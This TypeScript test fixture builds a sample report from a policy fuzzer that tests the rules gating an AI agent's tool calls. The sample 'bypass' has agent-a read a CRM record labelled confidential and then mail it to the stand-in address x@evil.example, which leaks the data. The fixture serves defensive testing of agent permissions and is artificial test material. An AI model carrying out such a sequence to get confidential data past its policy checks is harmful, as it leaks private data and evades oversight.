import type { FuzzReport } from "../../packages/report/src/report.js";

/** The first call of its bypass. */
export const step = {
  n: 1,
  waited: 0,
  id: "c1",
  session: "s1",
  subject: { id: "agent-a" },
  tool: "crm.read",
  arguments: { record: "r1" },
  answers: [],
  effect: "allow" as const,
  rules: ["crm/reads"],
  adds: "reads data that carries `confidential`",
};
/** A report of a search that found a way to one of its goals. */
export const report: FuzzReport = {
  kind: "fuzz",
  result: {
    seed: 1,
    budget: 5000,
    engine: "reference 0.1.0",
    confirmedBy: ["opa-wasm 1.10.0", "opa 0.70.0"],
    artifact: "sha256:0123",
    interrupted: false,
    unchecked: false,
    decisions: 812,
    evaluated: 120,
    checked: 6,
    informed: 0,
    effects: [
      { effect: "allow", decisions: 700 },
      { effect: "deny", decisions: 112 },
    ],
    sequences: 40,
    actions: 24,
    worlds: [
      {
        name: "office",
        digest: "sha256:4567",
        subjects: 1,
        sessions: 2,
        calls: 24,
        waits: [3_600_000],
        mostWaited: 7_200_000,
        expiries: [],
        exhausted: [
          {
            ...{ goals: ["confidentialLeaves"], calls: 24, depth: 3, everything: false, positions: 77 },
            ...{ waits: [3_600_000], expiries: [], took: ["p/kept"], outOf: 5 },
          },
        ],
      },
    ],
    goals: [
      {
        name: "confidentialLeaves",
        title: "Confidential data leaves",
        vacuous: false,
        bypass: {
          world: "office",
          corpus: null,
          steps: [
            step,
            {
              ...step,
              n: 2,
              waited: 3_600_000,
              id: "c2",
              tool: "mail.send",
              arguments: { to: ["x@evil.example"], body: "a" },
            },
          ],
          outcome: "data labelled `confidential` has reached `x@evil.example`",
        },
      },
      { name: "overspend", title: "More than 500 are paid", bypass: null, vacuous: false },
      { name: "drugsLeave", title: "Drugs leave the store", bypass: null, vacuous: true },
    ],
    sometimes: [
      { name: "reads", title: "Records are read", seen: true, calls: 4, stoppedBy: [] },
      {
        name: "pays",
        title: "A large payment goes through",
        seen: false,
        calls: 2,
        stoppedBy: ["pay/large"],
      },
    ],
    idle: 12,
    neverFired: ["crm/neverAsked"],
    neverAllowed: [
      { tool: "files.zip", rules: [] },
      { tool: "shell.run", rules: ["action-gate/unlistedCommand"] },
    ],
    command: "policy fuzz --seed 1 --budget 5000",
  },
  written: new Map([["confidentialLeaves", "scenarios/fuzz/confidential-leaves.yaml"]]),
  strict: false,
  rulePlaces: new Map([
    ["crm/reads", { file: "policies/crm.policy.ts", line: 8, column: 14, endLine: 8, endColumn: 40 }],
  ]),
  nearMisses: new Map([
    [
      "confidentialLeaves",
      [
        {
          step: 2,
          rule: "crm/leaves",
          wanted: true,
          text: 'carried.of(r).has("confidential")',
          place: { file: "policies/crm.policy.ts", line: 12, column: 9, endLine: 12, endColumn: 42 },
        },
      ],
    ],
  ]),
  sometimesPlaces: new Map([
    ["pays", { file: "policies/crm.goals.ts", line: 9, column: 14, endLine: 9, endColumn: 30 }],
  ]),
  goalPlaces: new Map(
    ["confidentialLeaves", "overspend", "drugsLeave"].map((name, i) => [
      name,
      { file: "policies/crm.goals.ts", line: 3 + i, column: 14, endLine: 3 + i, endColumn: 30 },
    ]),
  ),
};
